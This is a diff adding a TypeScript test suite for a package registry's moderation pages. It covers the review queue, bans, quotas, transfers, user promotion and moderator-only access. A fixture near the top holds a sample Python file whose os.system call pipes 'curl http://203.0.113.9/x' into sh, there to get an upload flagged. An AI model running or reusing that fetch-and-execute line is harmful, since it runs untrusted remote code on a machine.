@@ -1,0 +1,163 @@
+import assert from 'node:assert/strict';
+import { after, test } from 'node:test';
+import { makePublisher, publishActive, publishFiles, publishPending, uniqueId } from '../support/build.ts';
+import type { Client } from '../support/client.ts';
+import { startServer } from '../support/start-server.ts';
+import { suite } from '../support/variants.ts';
+import { Visitor, bodyOf } from '../support/visitor.ts';
+
+const shell = { 'run.py': "import os\n\nos.system('curl http://203.0.113.9/x | sh')\n" };
+
+suite('moderating on the site', async () => {
+  const server = await startServer({ after });
+  const moderator = await server.moderator();
+  const visit = new Visitor(server.url, moderator.bearer);
+  const ada = await makePublisher(server, 'ada');
+  await publishActive(server, ada, 'plain-lines', '1.0.0');
+  const emailOf = async (user: Client): Promise<string> => (await user.get('/users')).json.email;
+  const statusOf = async (id: string, version: string): Promise<string> =>
+    (await moderator.get(`/nodes/${id}/versions/${version}`)).json.status;
+
+  test('the queue shows what waits, and a version is decided with a reason', async () => {
+    const id = uniqueId('held');
+    await publishFiles(server, ada, id, '1.0.0', shell);
+    const { html: queue } = await visit.get('/moderate');
+    assert.match(queue, new RegExp(`href="/moderate/versions/${id}/1.0.0"`));
+    const page = `/moderate/versions/${id}/1.0.0`;
+    const { html } = await visit.get(page);
+    assert.match(html, /run\.py/);
+    assert.match(html, /aria-label="Line 3"/);
+    assert.match(html, /plain-lines/, 'the other nodes of the publisher are beside it');
+    const decision = { act: 'decide', status: 'NodeVersionStatusActive' };
+    const without = await visit.fill(page, { ...decision, reason: ' ' });
+    assert.equal(without.status, 422);
+    assert.match(without.html, /Give a reason/);
+    assert.equal(await statusOf(id, '1.0.0'), 'NodeVersionStatusFlagged');
+    const decided = await visit.fill(page, { ...decision, reason: 'A test <b>of</b> ours.' });
+    assert.equal(decided.status, 303, decided.html);
+    assert.equal(decided.location, page);
+    assert.equal(await statusOf(id, '1.0.0'), 'NodeVersionStatusActive');
+    const after = await visit.get(page);
+    assert.match(after.html, /A test &lt;b>of&lt;\/b> ours\./);
+    assert.match(after.html, /version\.moderated/);
+    await server.settle();
+    const illegal = await visit.fill(page, {
+      ...decision,
+      status: 'NodeVersionStatusPending',
+      reason: 'No.',
+    });
+    assert.equal(illegal.status, 422);
+  });
+
+  test('a flagged version is checked again, and one without a package is banned', async () => {
+    const id = uniqueId('again');
+    await publishFiles(server, ada, id, '1.0.0', shell);
+    const page = `/moderate/versions/${id}/1.0.0`;
+    assert.equal((await visit.fill(page, { act: 'check' })).status, 303);
+    assert.equal(await statusOf(id, '1.0.0'), 'NodeVersionStatusPending');
+    await server.settle();
+    await publishPending(ada, id, '2.0.0');
+    const fields = { act: 'decide', status: 'NodeVersionStatusBanned', reason: 'Never.' };
+    assert.equal((await visit.fill(`/moderate/versions/${id}/2.0.0`, fields)).status, 303);
+    assert.equal((await visit.get('/moderate/versions/none/1.0.0')).status, 404);
+  });
+
+  test('a publisher is banned, shown while it is, freed, and gets quotas', async () => {
+    const { id } = await makePublisher(server, uniqueId('eve'));
+    const page = `/moderate/publishers/${id}`;
+    assert.equal((await visit.get(`/moderate/publishers?q=${id}`)).location, page);
+    assert.match((await visit.get('/moderate/publishers')).html, new RegExp(page));
+    assert.equal((await visit.fill(page, { act: 'ban', reason: 'Spam.' })).status, 303);
+    const banned = await visit.get(page);
+    assert.match(banned.html, /Banned/);
+    assert.match(banned.html, /Spam\./);
+    assert.equal((await visit.fill(page, { act: 'lift', reason: 'Sorry.' })).status, 303);
+    assert.equal((await visit.fill(page, { act: 'quotas', nodes: '7', members: '' })).status, 303);
+    const { json } = await moderator.get(`/publishers/${id}/usage`);
+    assert.deepEqual([json.nodes.max, json.members.max], [7, 100]);
+    assert.match((await visit.get(page)).html, /id="nodes"[^>]*value="7"/);
+    const refused = await visit.fill(page, { act: 'quotas', nodes: '-1' });
+    assert.equal(refused.status, 422);
+  });
+
+  test('a node is ranked, banned, found while it is, freed, and transferred once its id is typed', async () => {
+    const id = uniqueId('drawn-lines');
+    await publishActive(server, ada, id, '1.0.0');
+    const { id: heir } = await makePublisher(server, uniqueId('heir'));
+    const page = `/moderate/nodes/${id}`;
+    const { html } = await visit.get(page);
+    assert.match(html, /Similar names/);
+    assert.equal((await visit.fill(page, { act: 'rank', search_ranking: '3' })).status, 303);
+    assert.equal((await visit.fill(page, { act: 'quotas', versions: '9' })).status, 303);
+    assert.match((await visit.get(page)).html, /value="3"[\s\S]*value="9"/);
+    assert.equal((await visit.fill(page, { act: 'ban', reason: 'Malware.' })).status, 303);
+    assert.equal((await server.anonymous.get(`/nodes/${id}`)).status, 403);
+    assert.match((await visit.get(`/moderate/nodes?q=${id}`)).html, new RegExp(page));
+    assert.match((await visit.get(page)).html, /Malware\./);
+    assert.match((await visit.get(`/moderate/versions/${id}/1.0.0`)).html, /Banned|Active/);
+    assert.equal((await visit.fill(page, { act: 'lift', reason: 'Not ours.' })).status, 303);
+    const transfer = { act: 'transfer', publisher_id: heir, reason: 'Asked by both.' };
+    const unconfirmed = await visit.fill(page, { ...transfer, confirm: 'other' });
+    assert.equal(unconfirmed.status, 422);
+    assert.match(unconfirmed.html, /Asked by both\./, 'what was typed is kept');
+    assert.equal((await visit.fill(page, { ...transfer, confirm: id })).status, 303);
+    assert.equal((await moderator.get(`/nodes/${id}`)).json.publisher.id, heir);
+  });
+
+  test('a user is found, made a moderator and not, banned once the address is typed, and freed', async () => {
+    const user = await server.user('mallory');
+    const email = await emailOf(user);
+    const page = `/moderate/users?q=${encodeURIComponent(email)}`;
+    assert.match((await visit.get('/moderate/users')).html, /mallory@example\.org/);
+    assert.match((await visit.get('/moderate/users?q=nobody@example.org')).html, /No user has this address/);
+    assert.equal((await visit.fill(page, { act: 'promote', confirm: email })).status, 303);
+    assert.equal((await user.get('/admin/users')).status, 200);
+    assert.equal((await visit.fill(page, { act: 'demote' })).status, 303);
+    assert.equal((await user.get('/admin/users')).status, 403);
+    assert.equal((await visit.fill(page, { act: 'quotas', publishers: '2' })).status, 303);
+    assert.equal((await user.get('/users')).json.quotas.publishers.max, 2);
+    assert.equal((await visit.fill(page, { act: 'ban', reason: 'Spam.', confirm: 'x' })).status, 422);
+    assert.equal((await visit.fill(page, { act: 'ban', reason: 'Spam.', confirm: email })).status, 303);
+    assert.equal((await user.get('/users')).status, 401);
+    assert.match((await visit.get(page)).html, /Spam\./);
+    assert.equal((await visit.fill(page, { act: 'lift' })).status, 303);
+    const own = `/moderate/users?q=${encodeURIComponent(await emailOf(moderator))}`;
+    const refused = await visit.fill(own, { act: 'demote' });
+    assert.equal(refused.status, 422);
+    assert.match(refused.html, /cannot ban or demote yourself/);
+  });
+
+  const places = [
+    '/moderate',
+    '/moderate/versions/plain-lines/1.0.0',
+    '/moderate/publishers',
+    '/moderate/publishers/ada',
+    '/moderate/nodes',
+    '/moderate/nodes/plain-lines',
+    '/moderate/users?q=owner-of-ada%40example.org',
+    '/moderate/users',
+    '/moderate/statistics',
+  ];
+  const acting = new Set([1, 3, 5, 6]);
+
+  for (const [index, place] of places.entries()) {
+    test(`${place} is for moderators alone`, async () => {
+      const anonymous = await new Visitor(server.url).get(place);
+      assert.equal(anonymous.location, `/sign-in?to=${encodeURIComponent(place)}`);
+      for (const other of [await server.user('nobody'), ada.owner]) {
+        const { status, html } = await new Visitor(server.url, other.bearer).get(place);
+        assert.equal(status, 403);
+        assert.doesNotMatch(html, /aria-label="Moderation"/);
+      }
+      const { status, html, headers } = await visit.get(place);
+      assert.equal(status, 200, html);
+      assert.equal(headers.get('cache-control'), 'no-store');
+      if (!acting.has(index)) return;
+      assert.equal((await visit.post(place, bodyOf({ act: 'ban', reason: 'x' }))).status, 403, 'without its token');
+      const member = new Visitor(server.url, ada.owner.bearer);
+      const sent = await member.fill('/account/publishers/ada/publish', { act: 'ban', reason: 'x' }, place);
+      assert.equal(sent.status, 403, 'with a token of another page, by a member');
+      assert.equal((await visit.fill(place, { act: 'none' })).status, 422);
+    });
+  }
+});
